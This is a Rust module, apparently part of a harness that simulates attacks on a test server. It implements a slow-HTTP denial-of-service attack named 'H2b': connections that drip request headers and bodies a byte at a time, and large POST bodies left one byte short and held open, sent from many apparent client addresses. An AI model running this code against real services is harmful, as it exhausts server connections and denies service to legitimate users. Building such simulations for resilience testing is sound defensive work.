//! Bodies and heads that come a byte at a time, and bodies of which all but the end has come.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::{Attack, PLAIN};
use crate::client::{self, ATTACKER};
use crate::scene::{Doing, Scene};

/// Of each kind.
const CLIENTS: u8 = 200;
/// Bodies that lack their end.
const NEARLY: usize = 40;
const BODY: usize = 4 << 20;
const EVERY: Duration = Duration::from_millis(200);

pub const ATTACK: Attack = Attack { name: "H2b", about: "slow heads and bodies", act, ..PLAIN };

fn act<'a>(scene: &'a mut Scene<'_>) -> Doing<'a> {
    Box::pin(async {
        let address = scene.address();
        let head = client::head("POST", "/api/votes", &address.to_string(), "", BODY);
        let nearly: Arc<[u8]> = (head.clone() + &" ".repeat(BODY - 1)).into_bytes().into();
        for _ in 0..NEARLY {
            let nearly = Arc::clone(&nearly);
            scene.tasks.spawn(async move { _ = hold(address, &nearly).await });
        }
        for n in 1..=CLIENTS {
            let (head, from) = (head.clone(), client::one_of_crowd(n));
            scene.tasks.spawn(async move { _ = drip(address, from, head.as_bytes(), b" ").await });
            scene.tasks.spawn(async move { _ = drip(address, from, b"GET / HTTP/1.1\r\nX-Slow: ", b"x").await });
        }
        sleep(Duration::from_secs(10)).await;
        Ok(())
    })
}

/// Sends all of something, and waits.
async fn hold(to: SocketAddr, all: &[u8]) -> io::Result<()> {
    let mut stream = client::connect(to, ATTACKER).await?;
    stream.write_all(all).await?;
    sleep(Duration::from_secs(60)).await;
    Ok(())
}

/// Sends a beginning, and then one thing after the other, slowly.
async fn drip(to: SocketAddr, from: Ipv4Addr, beginning: &[u8], then: &[u8]) -> io::Result<()> {
    let mut stream = client::connect(to, from).await?;
    stream.write_all(beginning).await?;
    loop {
        sleep(EVERY).await;
        stream.write_all(then).await?;
    }
}
